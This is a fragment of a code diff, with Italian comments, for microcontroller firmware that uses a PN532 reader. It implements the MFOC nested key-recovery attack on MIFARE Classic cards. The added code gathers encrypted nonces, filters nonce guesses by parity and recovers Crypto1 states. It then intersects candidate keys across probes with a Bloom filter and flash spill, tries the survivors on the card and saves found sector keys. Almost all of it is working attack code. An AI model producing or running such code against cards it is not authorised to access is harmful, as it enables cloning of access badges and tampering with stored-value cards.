+    MfocSpill* spill;           // Insieme su flash oltre MFOC_INTERSECT_KEYS (NULL = non disponibile)
+    bool spilled;               // Le chiavi vanno ormai tutte su flash
+    uint32_t rejected;          // Falsi positivi del filtro
+} MfocIntersectRun;
+
+/**
+ * Aggiunge una chiave comune alla run aperta. Quando la RAM è piena le run
+ * già chiuse e la parte della run aperta passano su flash, e da lì in poi
+ * l'insieme resta su flash; senza spill la chiave viene contata in dropped
+ */
+static void mfoc_intersect_add(MfocIntersectRun* run, uint64_t key) {
+    MfocCandidates* c = run->candidates;
+    MfocSpill* spill = run->spill;
     
-    return success;
+    if (run->spilled) {
+        mfoc_spill_add(spill, &key, 1);
+        return;
+    }
+    if (c->size < c->capacity || spill == NULL) {
+        mfoc_candidates_add(c, &key, 1);
+        return;
+    }
+    
+    for (uint32_t r = 0; r < c->num_runs; r++) {
+        mfoc_spill_begin_run(spill);
+        mfoc_spill_add(spill, c->keys + c->run_start[r], c->run_start[r + 1] - c->run_start[r]);
+        mfoc_spill_end_run(spill);
+    }
+    mfoc_spill_begin_run(spill);
+    mfoc_spill_add(spill, c->keys + c->run_start[c->num_runs], c->size - c->run_start[c->num_runs]);
+    mfoc_spill_add(spill, &key, 1);
+    run->spilled = true;
 }
 
 /**
- * Verifica se un nonce è valido
+ * Controllo esatto sulla prima sonda delle chiavi passate dal filtro, a
+ * blocchi di CRYPTO1_BS_LANES: nella run entrano solo le chiavi davvero
+ * comuni alle due sonde
  */
-bool mfoc_valid_nonce(uint32_t Nt, uint32_t NtEnc, uint32_t Ks1, uint8_t* parity) {
-    // In un'implementazione reale, questa funzione verificherebbe la validità del nonce
-    // usando la parità e altre proprietà
+static bool mfoc_intersect_sink(const uint64_t* keys, uint32_t n, void* ctx) {
+    MfocIntersectRun* run = (MfocIntersectRun*)ctx;
+    
+    for (uint32_t base = 0; base < n; base += CRYPTO1_BS_LANES) {
+        int count = n - base < (uint32_t)CRYPTO1_BS_LANES ? n - base : CRYPTO1_BS_LANES;
+        crypto1_bs_t alive = nonce_nested_keys_ok(run->probe, 1, run->uid, keys + base, count, run->lo, run->hi);
+        
+        for (int lane = 0; lane < count; lane++) {
+            if (alive & ((crypto1_bs_t)1 << lane)) {
+                mfoc_intersect_add(run, keys[base + lane]);
+            } else {
+                run->rejected++;
+            }
+        }
+    }
     return true;
 }
 
 /**
- * Raggruppa e ordina le chiavi possibili
+ * Recupero di tutte le chiavi candidate di una sonda verso il sink
+ * @return 1 completato, 0 memoria insufficiente, -1 interruzione dell'utente
  */
-mfoc_countKeys* mfoc_uniqsort_keys(uint64_t* possibleKeys, uint32_t size) {
-    unsigned int i, j = 0;
-    int count = 0;
-    mfoc_countKeys* our_counts;
+static int mfoc_intersect_probe(const NonceNested* probe, uint32_t uid, uint32_t lo, uint32_t hi,
+                                crypto1_key_sink sink, void* ctx, int from, const char* status) {
+    uint32_t guesses[MFOC_NESTED_MAX_GUESSES];
+    uint32_t num_guesses = nonce_nested_guesses(probe, lo, hi, guesses, MFOC_NESTED_MAX_GUESSES);
+    Crypto1RecoveryStats stats;
     
-    // Ordina le chiavi
-    qsort(possibleKeys, size, sizeof(uint64_t), mfoc_compare_keys);
+    for (uint32_t i = 0; i < num_guesses; i++) {
+        mfoc_update_progress(from + i * 3 / num_guesses, status);
+        if (digitalRead(buttonPin_RST) == LOW) return -1;
+        if (!nested_recover_keys(uid, guesses[i], probe->nt_enc, sink, ctx, &stats) && !stats.complete) return 0;
+    }
+    return 1;
+}
+
+/**
+ * Intersezione tra le sonde, quando una sonda di verifica cade fuori dalla
+ * finestra di distanze e scarta la chiave giusta: le chiavi della prima
+ * sonda vengono solo segnate nel filtro di Bloom, quelle delle altre
+ * raggiungono il controllo esatto e l'insieme dei candidati solo se il
+ * filtro le contiene. Memoria e controlli esatti seguono le chiavi
+ * superstiti, non quelle recuperate; oltre MFOC_INTERSECT_KEYS le chiavi
+ * comuni continuano su LittleFS tramite MfocSpill
+ * @return 1 chiave trovata, 0 no, -1 interruzione o carta persa
+ */
+static int mfoc_nested_intersect(const NonceNested* probes, uint8_t num_probes, uint32_t uid, uint32_t lo,
+                                 uint32_t hi, MfcukArena* arena, uint8_t* foundKey) {
+    MfcukArenaScope scope(arena);     // Filtro e candidati servono solo a questo passaggio
+    MfocCandidates* candidates;
+    MfocSpill* spill;
+    mfoc_countKeys* order;
+    uint32_t guesses[MFOC_NESTED_MAX_GUESSES];
+    uint32_t num_guesses, num_order;
+    MfcukArenaMark mark;
+    MfocIntersectRun run;
+    MfocBloomGate gate;
+    MfocBloom bloom;
+    int r;
     
-    our_counts = (mfoc_countKeys*)calloc(size, sizeof(mfoc_countKeys));
-    if (our_counts == NULL) {
-        Serial.println("Errore allocazione memoria");
-        return NULL;
+    candidates = MFCUK_ARENA_NEW(arena, MfocCandidates, 1);
+    order = MFCUK_ARENA_NEW(arena, mfoc_countKeys, MFOC_INTERSECT_KEYS);
+    if (candidates == NULL || order == NULL || !mfoc_candidates_init_arena(candidates, arena, MFOC_INTERSECT_KEYS)) {
+        return 0;
+    }
+    
+    // Buffer dello spill riservati prima del filtro; senza spazio si resta in RAM
+    mark = mfcuk_arena_mark(arena);
+    spill = MFCUK_ARENA_NEW(arena, MfocSpill, 1);
+    if (spill == NULL || mfcuk_arena_remaining(arena) < 2 * MFOC_INTERSECT_SPILL_BUDGET ||
+        !mfoc_spill_init(spill, arena, MFOC_INTERSECT_SPILL_BUDGET, MFOC_SPILL_DIR)) {
+        mfcuk_arena_reset(arena, mark);
+        spill = NULL;
+    }
+    
+    // Il filtro prende tutta l'arena rimasta, fino a MFOC_BLOOM_BITS_PER_KEY bit per chiave
+    num_guesses = nonce_nested_guesses(&probes[0], lo, hi, guesses, MFOC_NESTED_MAX_GUESSES);
+    if (num_guesses == 0 ||
+        !mfoc_bloom_init_arena(&bloom, arena, num_guesses * MFOC_NESTED_KEYS_PER_NT, mfcuk_arena_remaining(arena))) {
+        return 0;
+    }
+    
+    r = mfoc_intersect_probe(&probes[0], uid, lo, hi, mfoc_bloom_sink, &bloom, 86, "Filtro sonde...");
+    
+    run.probe = &probes[0];
+    run.uid = uid;
+    run.lo = lo;
+    run.hi = hi;
+    run.candidates = candidates;
+    run.spill = spill;
+    run.spilled = false;
+    run.rejected = 0;
+    mfoc_bloom_gate_init(&gate, &bloom, mfoc_intersect_sink, &run);
+    for (uint8_t p = 1; p < num_probes && r == 1; p++) {
+        if (run.spilled) mfoc_spill_begin_run(spill);
+        else mfoc_candidates_begin_run(candidates);
+        r = mfoc_intersect_probe(&probes[p], uid, lo, hi, mfoc_bloom_gate_sink, &gate, 89, "Intersezione...");
+        if (run.spilled) mfoc_spill_end_run(spill);
+        else mfoc_candidates_end_run(candidates);
+    }
+    
+    Serial.printf("[MFOC] Intersezione: filtro %u byte (k=%u, %u chiavi, falsi positivi ~%u.%u%%), "
+                  "%u/%u chiavi passate, %u scartate dal controllo esatto\n",
+                  (unsigned)(bloom.num_blocks * MFOC_BLOOM_BLOCK_BYTES), bloom.k, (unsigned)bloom.added,
+                  (unsigned)mfoc_bloom_fp_permille(&bloom) / 10, (unsigned)mfoc_bloom_fp_permille(&bloom) % 10,
+                  (unsigned)gate.passed, (unsigned)gate.tested, (unsigned)run.rejected);
+    if (run.spilled) {
+        Serial.printf("[MFOC] Intersezione oltre %u chiavi: %u chiavi su flash, %u byte scritti%s\n",
+                      (unsigned)MFOC_INTERSECT_KEYS, (unsigned)spill->keys_added, (unsigned)spill->bytes_written,
+                      spill->error ? ", ERRORE di I/O" : "");
+    } else if (candidates->dropped > 0) {
+        Serial.printf("[MFOC] Intersezione: %u chiavi comuni scartate oltre %u (spill non disponibile)\n",
+                      (unsigned)candidates->dropped, (unsigned)MFOC_INTERSECT_KEYS);
+    }
+    if (r <= 0) {
+        if (spill != NULL) mfoc_spill_free(spill);
+        if (r == 0) Serial.println("[MFOC] Intersezione interrotta: memoria insufficiente per il recupero");
+        return r;
+    }
+    
+    // Chiavi comuni alla prima sonda e ad almeno un'altra, le più frequenti per prime
+    if (run.spilled) {
+        num_order = mfoc_spill_top(spill, order, MFOC_INTERSECT_KEYS, 1);
+    } else {
+        num_order = mfoc_candidates_top(candidates, order, MFOC_INTERSECT_KEYS, 1);
+    }
+    if (spill != NULL) mfoc_spill_free(spill);
+    return mfoc_try_order(order, num_order, 92, 3, arena, foundKey);
+}
+
+/**
+ * Recupero nested della chiave del bersaglio: {nt} del bersaglio dal
+ * settore di exploit, nt stimati entro mediana ± tolleranza e filtro di
+ * parità prima del recupero dello stato, che gira solo sui nt superstiti.
+ * Le chiavi candidate devono decifrare anche le altre sonde prima di
+ * arrivare alla carta; se nessuna ci riesce si ripiega sull'intersezione
+ * tra le sonde
+ * @return 1 chiave trovata, 0 no, -1 interruzione o carta persa
+ */
+static int mfoc_nested_recover(MfocCard* card, uint8_t sector, uint8_t key_type, mfoc_denonce* d, MfcukArena* arena,
+                               uint8_t* foundKey) {
+    int8_t e_sector = mfoc_target.exploit_sector;
+    CardSession* session = mfoc_target.session;
+    NonceNested probes[MFOC_NESTED_PROBES], tmp;
+    uint32_t guesses[MFOC_NESTED_MAX_GUESSES];
+    uint32_t tol, lo, hi, num_guesses, best_guesses = UINT32_MAX, tested = 0, passed = 0, misses = 0, runs = 0;
+    uint8_t num_probes = 0, best = 0, e_type;
+    uint64_t e_key;
+    NonceAcq acq;
+    KeyNestedStage check;
+    KeyVerifyStage verify;
+    Crypto1RecoveryStats stats;
+    int r;
+    
+    if (e_sector < 0 || session == NULL || d->median == 0) return 0;
+    e_type = card->sectors[e_sector].foundKeyA ? KEY_A : KEY_B;
+    e_key = bytes_to_num(e_type == KEY_A ? card->sectors[e_sector].KeyA.bytes : card->sectors[e_sector].KeyB.bytes,
+                         MIFARE_KEY_SIZE);
+    
+    tol = d->tolerance < MFOC_NESTED_MAX_GUESSES / 2 ? d->tolerance : MFOC_NESTED_MAX_GUESSES / 2;
+    lo = d->median > tol ? d->median - tol : 0;
+    hi = d->median + tol;
+    
+    mfoc_update_progress(50, "Nonce nested...");
+    if (!nonce_pn532_begin(&acq, session)) return 0;
+    while (num_probes < MFOC_NESTED_PROBES) {
+        r = nonce_nested(&acq, e_key, get_block_number_by_sector(e_sector, 3), e_type,
+                         get_block_number_by_sector(sector, 3), key_type, false, &probes[num_probes]);
+        if (r == 1) {
+            num_probes++;
+        } else if (r == 0 || ++misses >= MFOC_COLLECT_MAX_MISSES) {
+            break;
+        }
+    }
+    nonce_pn532_end(session);
+    
+    // Anche se il recupero fallisce le sonde ordinano le chiavi del dizionario
+    for (uint8_t i = 0; i < num_probes; i++) {
+        mfoc_target.probes[i].uid = acq.uid32;
+        mfoc_target.probes[i].nt_enc = probes[i].nt_enc;
+        mfoc_target.probes[i].par = probes[i].par;
+    }
+    mfoc_target.num_probes = num_probes;
+    
+    // Senza almeno una sonda di verifica ogni stato recuperato andrebbe provato sulla carta
+    if (num_probes < 2) {
+        Serial.printf("[MFOC] Nested S%02u/%c: %u sonde acquisite, recupero saltato\n", sector,
+                      key_type == KEY_A ? 'A' : 'B', num_probes);
+        return 0;
+    }
+    
+    // Filtro di parità su ogni sonda: il recupero parte da quella con meno superstiti
+    for (uint8_t i = 0; i < num_probes; i++) {
+        num_guesses = nonce_nested_guesses(&probes[i], lo, hi, guesses, MFOC_NESTED_MAX_GUESSES);
+        tested += hi - lo + 1;
+        passed += num_guesses;
+        if (num_guesses < best_guesses) {
+            best_guesses = num_guesses;
+            best = i;
+        }
+    }
+    Serial.printf("[MFOC] Filtro di parità S%02u/%c: %u nt su %u superano il filtro (%u%%), distanze %u..%u\n",
+                  sector, key_type == KEY_A ? 'A' : 'B', (unsigned)passed, (unsigned)tested,
+                  (unsigned)(passed * 100 / tested), (unsigned)lo, (unsigned)hi);
+    
+    tmp = probes[0];
+    probes[0] = probes[best];
+    probes[best] = tmp;
+    num_guesses = nonce_nested_guesses(&probes[0], lo, hi, guesses, MFOC_NESTED_MAX_GUESSES);
+    
+    keygen_verify_init(&verify, mfoc_nested_verify, foundKey, NULL);
+    keygen_nested_init(&check, acq.uid32, probes + 1, num_probes - 1, lo, hi, &verify.base);
+    for (uint32_t i = 0; i < num_guesses && !verify.found && !verify.cancelled; i++, runs++) {
+        mfoc_update_progress(55 + i * 30 / num_guesses, "Recupero nested...");
+        keygen_from_nested(acq.uid32, guesses[i], probes[0].nt_enc, &check.base, &stats);
+    }
+    if (!verify.found && !verify.cancelled) keygen_flush(&check.base);
+    
+    Serial.printf("[MFOC] Nested S%02u/%c: %u recuperi su %u nt, %u chiavi scartate dalle sonde, %u provate sulla carta\n",
+                  sector, key_type == KEY_A ? 'A' : 'B', (unsigned)runs, (unsigned)num_guesses,
+                  (unsigned)check.rejected, (unsigned)verify.base.in);
+    
+    if (verify.cancelled) return -1;
+    if (verify.found) {
+        num_to_bytes(verify.key, MIFARE_KEY_SIZE, foundKey);
+        return 1;
+    }
+    
+    // Con due sonde l'intersezione coincide con la verifica appena fatta
+    if (num_probes < 3) return 0;
+    return mfoc_nested_intersect(probes, num_probes, acq.uid32, lo, hi, arena, foundKey);
+}
+
+/**
+ * Recupera la chiave del settore: prima il recupero nested dalle distanze
+ * dei nonce, poi le chiavi possibili (dizionario o RAM)
+ */
+bool mfoc_recover_key(MfocCard* card, uint8_t sector, uint8_t key_type, mfoc_denonce* d, mfoc_pKeys* pk,
+                      MfcukArena* arena) {
+    uint8_t foundKey[6];
+    bool success = false;
+    MfcukArenaScope scope(arena);     // Candidati e ordine di prova valgono solo per questo settore
+    int result;
+    
+    mfoc_target.num_probes = 0;
+    result = mfoc_nested_recover(card, sector, key_type, d, arena, foundKey);
+    if (result == 0) {
+        if (pk->dict != NULL) {
+            result = mfoc_try_dict_keys(pk, arena, foundKey);
+        } else {
+            result = mfoc_try_ram_keys(pk, arena, foundKey);
+        }
+    }
+    
+    // Errore o interruzione dell'utente
+    if (result < 0) {
+        return false;
     }
+    success = (result > 0);
     
-    for (i = 0; i < size; i++) {
-        if (possibleKeys[i + 1] == possibleKeys[i]) {
-            count++;
+    // Se abbiamo trovato la chiave, salviamola nella struttura della carta
+    if (success) {
+        // Al prossimo attacco la chiave verrà provata tra le prime
+        if (pk->dict != NULL) mfoc_dict_record_hit(pk->dict, bytes_to_num(foundKey, 6));
+        
+        if (key_type == KEY_A) {
+            memcpy(card->sectors[sector].KeyA.bytes, foundKey, MIFARE_KEY_SIZE);
+            card->sectors[sector].foundKeyA = true;
         } else {
-            our_counts[j].key = possibleKeys[i];
-            our_counts[j].count = count;
-            j++;
-            count = 0;
+            memcpy(card->sectors[sector].KeyB.bytes, foundKey, MIFARE_KEY_SIZE);
+            card->sectors[sector].foundKeyB = true;
         }
     }
     
-    // Ordina per conteggio
-    qsort(our_counts, j, sizeof(mfoc_countKeys), 
-          [](const void* a, const void* b) -> int { 
-              return ((mfoc_countKeys*)b)->count - ((mfoc_countKeys*)a)->count; 
-          });
+    return success;
+}
+
+/**
+ * Verifica se un nonce stimato è compatibile con le parità ricevute con {nt}
+ * (nonce_nested_parity_ok); parity[i] è la parità ricevuta con il byte i di
+ * {nt}. Ks1 (= Nt ^ NtEnc nella firma di mfoc) viene ricavato da Nt e NtEnc
+ */
+bool mfoc_valid_nonce(uint32_t Nt, uint32_t NtEnc, uint32_t Ks1, uint8_t* parity) {
+    uint8_t par = 0;
     
-    return our_counts;
+    (void)Ks1;
+    for (uint8_t i = 0; i < 4; i++) par |= (parity[i] & 1) << i;
+    return nonce_nested_parity_ok(Nt, NtEnc, par);
 }
 
 /**
@@ -1260,6 +1829,7 @@ void mfoc_menu_mod() {
     
     // Imposta la configurazione predefinita
     gMfocConfig.known_key_type = KEY_A;
+    gMfocConfig.exploit_sector = -1;
     gMfocConfig.target_key_type = KEY_A;
     gMfocConfig.target_sector = 0;
     gMfocConfig.max_iterations = 1000;